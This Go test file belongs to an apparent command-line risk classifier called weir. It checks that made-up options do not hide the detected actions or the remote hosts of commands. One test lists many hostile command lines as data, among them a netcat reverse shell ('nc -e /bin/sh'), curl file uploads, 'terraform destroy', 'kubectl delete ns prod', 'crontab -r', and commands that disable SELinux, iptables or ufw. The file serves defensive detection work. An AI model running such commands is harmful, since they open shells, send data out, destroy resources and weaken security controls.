package deed

import (
	"maps"
	"slices"
	"strings"
	"testing"

	"github.com/weir-gate/weir/internal/text/shell"
	"github.com/weir-gate/weir/internal/weirtest/need"
)

// madeUp are options that no program has.
var madeUp = [][]string{{"--zz"}, {"--zz", "v"}, {"--zz=v"}, {"-~", "v"}, {"--zz-y", "-v"}, {"--zz", "v", "--zy", "w"}}

// told are the deeds of a command line, each as its verb and kind, connections as their ends.
func told(argv []string) map[string]bool {
	out := map[string]bool{}
	deeds := Find(shell.ReadArgv(argv, shell.Start{}), nil)
	for i := range deeds {
		d := &deeds[i]
		out[string(d.Verb)+" "+d.Kind] = true
		for _, e := range d.hosts {
			out[string(d.Verb)+" "+e.host.Name] = true
		}
	}
	return out
}

// sample is a word that a glob matches.
func sample(globs []string) string {
	word := strings.ReplaceAll(globs[0], "*", "x")
	return strings.ReplaceAll(word, "%weir", "weir")
}

// exampleOf is a line that does what a row says, and where its operands are.
func exampleOf(r *row) (line []string, operands int) {
	for _, w := range r.words {
		if !w.many {
			line = append(line, sample(w.globs))
		}
	}
	operands = len(line)
	for _, o := range r.needs {
		switch {
		case o.not:
		case len(o.values) > 0:
			line = append(line, o.names[0], sample(o.values))
		default:
			line = append(line, o.names[0])
		}
	}
	for _, s := range r.some {
		if !s.not {
			line = append(line, sample(s.globs))
		}
	}
	if r.up {
		line = append(line, "s3://x")
	}
	return line, operands
}

// hides lists what is not told any more with options that are not known before each of the first words.
func hides(t *testing.T, line []string, lead int) {
	t.Helper()
	plain := told(line)
	for at := 1; at <= lead; at++ {
		for _, option := range madeUp {
			with := slices.Insert(slices.Clone(line), at, option...)
			found := told(with)
			for deed := range plain {
				if !found[deed] {
					t.Errorf("%q: %s is not found", with, deed)
				}
			}
		}
	}
}

// What a program does is found with options that are not known, before each of its subcommands.
func TestUnknownOptionsHideNoDeed(t *testing.T) {
	need.Long(t)
	tested := 0
	for _, name := range slices.Sorted(maps.Keys(compiled().rows)) {
		rows := compiled().rows[name]
		for i := range rows {
			r := &rows[i]
			if r.verb == noVerb || r.verb == "local" {
				continue
			}
			words, operands := exampleOf(r)
			line := append([]string{name}, words...)
			if !told(line)[string(r.verb)+" "+r.kind] {
				continue // another row says more of it
			}
			tested++
			hides(t, line, operands)
		}
	}
	if tested < 1500 {
		t.Errorf("only %d rows", tested)
	}
}

// The other end of a connection is found with options that are not known, before the words that name it.
func TestUnknownOptionsHideNoHost(t *testing.T) {
	const host = "db.example.com"
	tested := 0
	for _, name := range slices.Sorted(maps.Keys(hostRows())) {
		r := hostRows()[name]
		var lines [][]string
		for _, option := range r.options {
			lines = append(lines, []string{name, option, host})
		}
		for where, word := range map[string]string{
			"url": "https://" + host + "/x", "urls": "https://" + host + "/x", "first": host, "login": "me@" + host,
			"path": host + ":/x", "at": "@" + host, "names": host, "socat": "TCP:" + host + ":80",
		} {
			if r.where[where] {
				lines = append(lines, []string{name, word})
			}
		}
		for _, line := range lines {
			if told(line)["connects "+host] {
				tested++
				hides(t, line, 1)
			}
		}
	}
	if tested < 200 {
		t.Errorf("only %d lines", tested)
	}
}

// The same for programs that do more than their rows say.
func TestUnknownOptionsHideNoDeedOfHandlers(t *testing.T) {
	for _, text := range []string{
		"git | push | --force origin main", "git | push | origin +main", "git | push | origin :main", "git | push | https://example.com/x main",
		"git | commit | --no-verify -m x", "git | config | core.hooksPath /dev/null", "git | clone | https://example.com/x",
		"docker | run | --privileged i", "docker | run | -v /:/host i", "docker | container | run | --privileged i",
		"docker | push | example.com/i", "npm | publish", "npm | install | https://example.com/x.tgz", "pip | install | git+https://example.com/x",
		"cargo | publish", "kubectl | delete | ns prod", "kubectl | -n prod delete | pod x", "kubectl | scale | --replicas=0 deploy/x",
		"helm | uninstall | x", "terraform | destroy", "aws | s3 | rm | s3://prod", "aws | ec2 | terminate-instances | --instance-ids i",
		"gcloud | projects | delete | x", "gh | repo | delete | o/r", "gh | release | delete | v1", "systemctl | stop | nginx", "systemctl | disable | ufw",
		"systemctl | enable | x.service", "crontab | -r", "kill | -9 1", "pkill | weir", "chmod | 777 x", "chmod | u+s x", "usermod | -aG sudo x",
		"ssh | me@example.com ls", "nc | -e /bin/sh example.com 80", "nc | -l 80", "curl | -T x https://example.com", "wget | https://example.com/x",
		"curl | -d @x https://example.com", "scp | x me@example.com:", "rsync | -a x me@example.com:", "sudo | ls", "doas | ls", "su | -",
		"shutdown | -h now", "iptables | -F", "ufw | disable", "setenforce | 0", "weir | policy | allow x", "psql | -h example.com", "psql | -d postgres://example.com/x", "psql | postgres://example.com/x",
		"redis-cli | -u redis://example.com", "mongosh | mongodb://example.com/x", "openssl | s_client | -connect example.com:443",
	} {
		words := strings.Fields(text)
		var line []string
		var places []int
		for _, word := range words {
			if word == "|" {
				places = append(places, len(line))
				continue
			}
			line = append(line, word)
		}
		plain := told(line)
		if len(plain) == 0 {
			t.Errorf("%q: nothing is found without the option", line)
		}
		for _, at := range places {
			for _, option := range madeUp {
				with := slices.Insert(slices.Clone(line), at, option...)
				found := told(with)
				for deed := range plain {
					if !found[deed] {
						t.Errorf("%q: %s is not found", with, deed)
					}
				}
			}
		}
	}
}
